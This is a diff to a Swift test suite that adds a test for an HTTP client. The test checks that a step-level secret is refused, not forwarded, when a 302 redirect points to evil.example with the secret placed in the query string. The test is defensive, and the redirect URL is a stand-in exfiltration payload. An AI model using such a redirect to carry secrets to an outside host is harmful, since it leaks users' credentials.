@@ -126,4 +126,21 @@ import Testing
     }
     #expect(secret.name == "TOKEN")
   }
+
+  /// It belongs to no profile: only the step and the run know of it.
+  @Test func `a secret of the step itself, put into a Location, goes nowhere`() async throws {
+    let text = Canary.secret("redirect-step")
+    let secret = Secret(text, name: "STEP", for: [try OriginPattern("https://api.example")])
+    let key = try #require(HTTPField.Name("X-Key"))
+    let error = await #expect(throws: UploadError.self) {
+      _ = try await run(
+        RequestHead(.get, .path("/x", profile: nil), headers: [key: text], secrets: [secret]),
+        [redirect(302, to: "https://evil.example/?t=\(Spelling.percent(text))"), ok])
+    }
+    guard case .secretRefused(let refused, _) = error?.fact else {
+      Issue.record("\(String(describing: error))")
+      return
+    }
+    #expect(refused.name == "STEP")
+  }
 }
